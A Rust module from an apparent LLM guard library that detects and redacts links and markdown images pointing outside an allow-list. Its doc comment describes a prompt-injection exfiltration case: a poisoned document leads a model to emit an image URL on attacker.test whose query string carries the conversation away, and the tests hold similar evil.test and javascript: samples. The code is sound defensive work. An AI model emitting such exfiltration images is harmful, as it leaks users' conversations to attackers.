//! URLs and markdown images outside an allow-list.
//!
//! A model that read a poisoned document may answer with `![](https://attacker.test/p.png?d=...)`:
//! the chat client fetches the image and the query string carries the conversation away, with
//! no click. [`UrlGuard`] finds `http(s)` links and markdown images and fires on any whose host
//! is not on the allow-list (an exact host or any subdomain of it). Images score higher than
//! links because they need no click.
//!
//! ```
//! use llmkit_guard::output::urls::{UrlGuard, host_of};
//! assert_eq!(host_of("https://user@Docs.Example.com:8443/a?b#c"), Some("docs.example.com".to_owned()));
//! let g = UrlGuard::new(["example.com"]);
//! assert!(g.allowed("https://docs.example.com/x"));
//! assert!(!g.allowed("https://example.com.evil.test/x"));
//! ```

use std::sync::LazyLock;

use async_trait::async_trait;
use regex::Regex;

use crate::guard::{Action, Decision, Finding, Guard, GuardContext};

static URL: LazyLock<Option<Regex>> =
    LazyLock::new(|| crate::guard::compile(r#"(?i)\bhttps?://[^\s<>"'`)\]]+"#));
static MD_IMAGE: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)>?(?:\s+[^)]*)?\)").ok());

/// The lower-case host of an absolute `scheme://` URL, without user info or port.
pub fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit('@').next()?;
    let host = if let Some(stripped) = host_port.strip_prefix('[') {
        stripped.split(']').next()?
    } else {
        host_port.split(':').next()?
    };
    let host = host.trim_end_matches('.').to_ascii_lowercase();
    (!host.is_empty()).then_some(host)
}

/// The URL guard. Defaults: action [`Action::Redact`] (links become `[link removed]`, images
/// disappear), threshold 0.5, relative image paths allowed.
#[derive(Debug, Clone)]
#[must_use]
pub struct UrlGuard {
    allow: Vec<String>,
    action: Action,
}

impl UrlGuard {
    /// A guard allowing these hosts and their subdomains.
    pub fn new<I, S>(allowed_hosts: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        UrlGuard {
            allow: allowed_hosts
                .into_iter()
                .map(|h| h.into().trim().trim_end_matches('.').to_ascii_lowercase())
                .collect(),
            action: Action::Redact,
        }
    }

    /// Sets the action.
    pub fn action(mut self, action: Action) -> Self {
        self.action = action;
        self
    }

    /// Whether `url` points to an allowed host. URLs without a scheme (relative paths) are
    /// allowed; a scheme other than http(s) (`javascript:`, `data:`) is not.
    pub fn allowed(&self, url: &str) -> bool {
        let lower = url.trim().to_ascii_lowercase();
        if !lower.contains(':') {
            return true;
        }
        if !(lower.starts_with("http://") || lower.starts_with("https://")) {
            return false;
        }
        match host_of(&lower) {
            None => false,
            Some(h) => self.allow.iter().any(|a| {
                h == *a
                    || (h.ends_with(a.as_str())
                        && h.strip_suffix(a.as_str()).is_some_and(|p| p.ends_with('.')))
            }),
        }
    }

    /// Findings for links and images outside the allow-list.
    pub fn findings(&self, text: &str) -> Vec<Finding> {
        let mut out: Vec<Finding> = Vec::new();
        if let Some(re) = MD_IMAGE.as_ref() {
            for c in re.captures_iter(text) {
                let (Some(all), Some(url)) = (c.get(0), c.get(1)) else {
                    continue;
                };
                if !self.allowed(url.as_str()) {
                    let detail = host_of(url.as_str()).unwrap_or_else(|| "non-http scheme".into());
                    out.push(
                        Finding::new("image_not_allowed", all.range(), 0.9)
                            .with_detail(detail)
                            .with_replacement(""),
                    );
                }
            }
        }
        if let Some(re) = URL.as_ref() {
            for m in re.find_iter(text) {
                let inside_image = out
                    .iter()
                    .any(|f| f.range.start <= m.start() && m.end() <= f.range.end);
                if !inside_image && !self.allowed(m.as_str()) {
                    let detail = host_of(m.as_str()).unwrap_or_default();
                    out.push(
                        Finding::new("url_not_allowed", m.range(), 0.7)
                            .with_detail(detail)
                            .with_replacement("[link removed]"),
                    );
                }
            }
        }
        out.sort_by_key(|f| f.range.start);
        out
    }
}

#[async_trait]
impl Guard for UrlGuard {
    fn name(&self) -> &str {
        "urls"
    }

    async fn check(&self, text: &str, _ctx: &GuardContext<'_>) -> Decision {
        Decision::from_findings("urls", self.action, 0.5, self.findings(text))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guard::apply_edits;

    #[test]
    fn redaction_removes_images_and_links() {
        let g = UrlGuard::new(["acme.com"]);
        let text = "See https://help.acme.com/r and https://evil.test/x ![a](https://evil.test/p.png?d=1) ![b](/local.png)";
        let f = g.findings(text);
        assert_eq!(f.len(), 2, "{f:?}");
        let edits: Vec<_> = f.iter().map(Finding::redaction).collect();
        let out = apply_edits(text, &edits);
        assert_eq!(
            out,
            "See https://help.acme.com/r and [link removed]  ![b](/local.png)"
        );
        assert!(!g.allowed("javascript:alert(1)"));
        assert!(!g.allowed("https://notacme.com/"));
        assert_eq!(host_of("http://[::1]:80/x"), Some("::1".into()));
    }
}
